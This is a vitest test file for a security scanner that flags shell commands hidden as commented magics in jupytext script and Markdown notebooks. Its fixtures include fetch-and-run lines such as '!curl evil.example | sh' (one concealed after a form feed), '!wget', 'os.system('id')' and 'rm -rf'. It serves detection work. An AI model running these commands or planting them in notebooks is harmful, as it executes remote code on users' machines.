import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { compareFindings, type Finding } from "../../core/kernel/findings";
import { namedByCommand } from "../../core/scan/commands";
import { Scanner } from "../../core/scan/scan";
import { runCli, tempDir } from "../helpers/cli";

// A script or Markdown file jupytext turns into a notebook (`jupytext --to ipynb --execute nb.py`) runs as that notebook:
// its commented magics uncommented, its Markdown fences as cells (core/scan/text-notebook.ts, jupytext's readers
// ported). A file the project's configuration hands to jupytext is read so, besides what Python reads it as.

let scanner: Scanner;
let plain: Scanner;
const RUN_BY = "`jupytext --execute` (package.json)";
beforeAll(async () => {
  scanner = await Scanner.create({ textNotebooks: { "nb/analysis.py": RUN_BY, "nb/light.py": RUN_BY, "nb/report.md": RUN_BY, "nb/breaks.py": RUN_BY, "nb/myst.md": RUN_BY } });
  plain = await Scanner.create();
});
afterAll(() => {
  scanner.dispose();
  plain.dispose();
});

const found = (s: Scanner, path: string, text: string) => [...s.scan(path, text).findings].sort(compareFindings).map((f) => `${f.rule} ${f.line}:${f.column}`);

const PERCENT = [
  "# ---", // 1: jupytext's header, comments
  "# jupyter:",
  "#   jupytext:",
  "#     text_representation:",
  "#       format_name: percent",
  "# ---",
  "",
  "# %%",
  "import os",
  "# !curl -s https://example.com | sh", // 10
  "x = 1  # an ordinary comment",
  "# Is this right? Not a help request.",
  "# %% [markdown]",
  "# # Notes",
  "# !not run: a Markdown cell", // 15
  "",
  "# %%",
  "# %%bash", // 18: a commented cell magic starts its cell
  "# echo hi",
  "",
  "# %%",
  's = """',
  "# !not run: in a string",
  '"""',
  "# ls -la", // 25: an alias command alone is automagic
  "# %time os.system(cmd)", // 26
  "# %pip install requests  # flowgate: ignore-boundary -- reviewed install", // 27
  "# %sx echo told not to be uncommented # noescape",
  "# # !ls: commented twice, a comment in the notebook",
  "# %%", // 30
  "# !wget \\", // 31: continued
  "# https://example.com/x",
  "",
  '# %% tags=["active-ipynb"]',
  '# os.system("only in the notebook")', // 35
  "",
  "# %% [raw]",
  "# !not run: raw",
  "",
].join("\n");

describe("a script jupytext reads as a notebook (percent format)", () => {
  it("scan/shell-command: each commented magic of a code cell where jupytext uncomments it; Markdown and raw cells, strings, `noescape`, comments written twice and ordinary comments not; a cell active in notebooks only uncommented; a suppression of a magic honoured and not called unused", () => {
    expect(found(scanner, "nb/analysis.py", PERCENT)).toEqual([
      "scan/shell-command 10:3", // !curl … | sh
      "scan/shell-command 18:3", // %%bash
      "scan/shell-command 25:3", // ls -la
      "scan/shell-command 26:9", // %time's statement: os.system
      "scan/shell-command 31:3", // !wget \
      "scan/shell-command 35:3", // os.system in the active-ipynb cell
    ]);
  });

  it("the same file no configuration hands to jupytext is what Python reads: comments, and the suppression above nothing is called unused", () => {
    expect(found(plain, "nb/analysis.py", PERCENT)).toEqual(["scan/unused-suppression 27:28"]);
  });

  it("the script's own calls stay reported where both readings find them, once", () => {
    const text = "import subprocess\n# %%\nsubprocess.run(cmd)\n# !ls\n";
    expect(found(scanner, "nb/analysis.py", text)).toEqual(["scan/shell-command 3:1", "scan/shell-command 4:3"]);
  });
});

describe("a script jupytext reads as a notebook (light format, line breaks)", () => {
  it("scan/shell-command: `# +` … `# -` cells, `# + [markdown]` not run, a comment paragraph holding a magic is code", () => {
    const light = ["import os", "", "# A comment paragraph", "# !pip install x", "", "# + [markdown]", "# !not run", "# -", "", "# +", "y = 2", "# %sx whoami", "# -", ""].join("\n");
    expect(found(scanner, "nb/light.py", light)).toEqual(["scan/shell-command 4:3", "scan/shell-command 12:3"]);
  });

  it("scan/shell-command: a form feed ends a line for jupytext (Python's splitlines), not for Python: the escape after it in a comment runs in the notebook", () => {
    expect(found(scanner, "nb/breaks.py", "x = 1  # note\f!curl evil.example | sh\n")).toEqual(["scan/shell-command 1:15"]);
    expect(found(plain, "nb/breaks.py", "x = 1  # note\f!curl evil.example | sh\n")).toEqual([]);
  });
});

describe("Markdown jupytext reads as a notebook", () => {
  const REPORT = ["# Report", "", "```python", "import subprocess", "# !wget http://x", "subprocess.run(c)", "```", "", "```bash", "curl http://example.com", "```", "", "```json", '{"not": "code"}', "```", "", "```", "!not a cell: no language", "```", "", "~~~{python}", "!ls", "~~~", ""].join("\n");

  it("scan/shell-command: Python fences' code and commented magics, another language's fence as its cell magic (```bash at its language), `{python}` chunks; fences of no language or of data not read", () => {
    expect(found(scanner, "nb/report.md", REPORT)).toEqual(["scan/shell-command 5:3", "scan/shell-command 6:1", "scan/shell-command 9:4", "scan/shell-command 22:1"]);
  });

  it("scan/shell-command: MyST's {code-cell} after its options (`:tags:` lines, a `---` YAML block); the file alone, not run by jupytext, is not read", () => {
    const myst = ["```{code-cell} ipython3", ":tags: [hide-input]", "!ls", "```", "", "```{code-cell}", "---", "tags: [x]", "---", "import os; os.system('id')", "```", ""].join("\n");
    expect(found(scanner, "nb/myst.md", myst)).toEqual(["scan/shell-command 3:1", "scan/shell-command 10:12"]);
    expect(found(plain, "nb/myst.md", myst)).toEqual([]);
  });
});

describe("jupytext in a run configuration", () => {
  it("names its files as text notebooks, whatever it is asked to do with them (also through python -m)", () => {
    expect(namedByCommand(["jupytext", "--to", "ipynb", "--execute", "nb/analysis.py"])).toEqual(["ipynb", "nb/analysis.py"].map((path) => ({ path, grammar: "python", notebook: "text" })));
    expect(namedByCommand(["python3", "-m", "jupytext", "--sync", "nb/report.md"])).toEqual([{ path: "nb/report.md", grammar: "python", notebook: "text" }]);
  });

  it("scan/shell-command: the files a package.json script hands to jupytext, at the script's and the Markdown's own lines and columns; a script no runner names keeps its comments", async () => {
    const root = tempDir();
    mkdirSync(join(root, "nb"));
    writeFileSync(join(root, "nb/analysis.py"), "import os\n# !curl -s https://example.com | sh\n");
    writeFileSync(join(root, "nb/other.py"), "import os\n# !curl -s https://example.com | sh\n");
    writeFileSync(join(root, "nb/report.md"), "# R\n\n```bash\nrm -rf /tmp/x\n```\n");
    writeFileSync(join(root, "package.json"), JSON.stringify({ name: "x", scripts: { nightly: "jupytext --to ipynb --execute nb/analysis.py && python -m jupytext --execute nb/report.md" } }));
    const run = await runCli(["scan", ".", "--format", "json", "--fail-on", "never"], { cwd: root });
    const findings = (JSON.parse(run.stdout) as { findings: Finding[] }).findings.map((f) => `${f.rule} ${f.file}:${f.line}:${f.column}`);
    expect(findings).toEqual(["scan/shell-command nb/analysis.py:2:3", "scan/shell-command nb/report.md:3:4"]);
  });
});
